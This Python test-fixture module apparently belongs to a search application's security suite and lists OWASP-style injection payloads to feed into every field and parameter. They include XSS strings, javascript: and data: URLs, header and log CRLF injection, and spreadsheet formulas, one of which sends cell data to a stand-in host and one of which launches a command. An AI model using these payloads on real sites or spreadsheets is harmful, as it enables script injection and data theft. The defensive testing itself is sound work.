"""Texts that would do something if they were ever taken for more than text.

By the kinds of OWASP's cheat sheets on cross-site scripting, header, log and CSV injection. Each
that runs as a script calls ``pwned()``; ``MARK`` stands in each, so that it can be found again.
"""

from __future__ import annotations

from typing import Any

from search.request import PARAMETERS

MARK = "铝锭"
"""A word that the searches of the suite look for."""

SCRIPTS = (
    "<script>pwned(1)</script>",
    "</title></textarea></style></noscript></script><script>pwned(2)</script>",
    '"><img src=x onerror=pwned(3)>',
    "'><svg/onload=pwned(4)>",
    '" autofocus onfocus=pwned(5) x="',
    "' onmouseover='pwned(6)' style='position:fixed;inset:0",
    "<iframe srcdoc='<script>parent.pwned(7)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=pwned(8)&gt;'>",
    "<details open ontoggle=pwned(9)>",
    "<a href=javascript:pwned(10)>x</a>",
    "&lt;script&gt;pwned(11)&lt;/script&gt; &#60;script&#62;pwned(11)&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}{{ config }}",
    "<!--><script>pwned(12)</script-->",
    "]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>pwned(13)</script><![CDATA[",
    '"}</script><script>pwned(14)</script>{"a":"',
    '<meta http-equiv=refresh content="0;url=javascript:pwned(15)">',
    "<base href=//elsewhere.example/><form action=//elsewhere.example><input name=q>",
    "<link rel=stylesheet href=//elsewhere.example/a.css>"
    "<style>@import '//elsewhere.example/b.css'</style>",
    "\\x3cscript\\x3epwned(16)\\x3c/script\\x3e \\u003cscript\\u003epwned(16)",
    "+ADw-script+AD4-pwned(17)+ADw-/script+AD4-",
    "＜script＞pwned(18)＜/script＞",
)  # fmt: skip
ADDRESSES = (
    "javascript:pwned(20)", "JaVaScRiPt:pwned(21)", " javascript:pwned(22)",
    "java\tscript:pwned(23)",
    "data:text/html,<script>pwned(24)</script>", "vbscript:pwned(25)", "//elsewhere.example/",
    'https://a.example/"onclick="pwned(26)', "https://a.example/'><script>pwned(27)</script>",
    "\x01javascript:pwned(28)", "https:javascript:pwned(29)", "file:///etc/passwd",
)  # fmt: skip
LINES = (
    "a\r\nSet-Cookie: stolen=1", "a\nX-Injected: 1", "a\r\n\r\n<html>", "a\u2028b\u2029c\x85d",
    "a\x00b", "\r\n2026-01-01 ERROR forged", "TY  - BOOK\r\nER  - ",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("//elsewhere.example?a="&A1,"x")', "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1",
    "\u200b=1+1", "\ufeff=1+1", "%0A-1+1", "；=1+1", '";=1+1',
)  # fmt: skip
TRICKS = (
    "\u202etxt.exe", "\u2066\u202ecba\u2069", "a\u200bb\u200cc\u200dd\ufeffe", "\u202b\u202a",
    "\U0001f600" * 3, "Z\u0341\u0342\u0343" * 40, "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb",
)  # fmt: skip

TEXTS = (*SCRIPTS, *LINES, *FORMULAS, *TRICKS)


def rows() -> list[dict[str, Any]]:
    """Articles as JSON gives them, with a payload in every field."""
    made: list[dict[str, Any]] = []
    for number, text in enumerate(TEXTS):
        article = dict.fromkeys(("source", "category", "editor"), text) | {
            # An id that cannot be printed is refused.
            "id": f"{number}{text if text.isprintable() else ''}"[:200],
            "title": f"{text}{MARK}",
            "body": f"{text}{MARK}\n{text}",
            "author": [text, f"{text}乙"],
            "date": "2026-01-15",
            "url": ADDRESSES[number % len(ADDRESSES)],
            "views": number,
        }
        made.append(article)
    for number, address in enumerate(ADDRESSES):
        made.append({"id": f"url{number}", "title": f"网址{number}{MARK}", "url": address})
    return made


def addresses() -> list[tuple[str, dict[str, str]]]:
    """Pages and parameters, each with each payload once."""
    names = (*PARAMETERS, "unknown")
    made: list[tuple[str, dict[str, str]]] = []
    for text in TEXTS:
        beside = {"q": MARK}
        made += [("/search", {**beside, name: text}) for name in names]
        made.append(("/search", {text: "x"}))
    return made
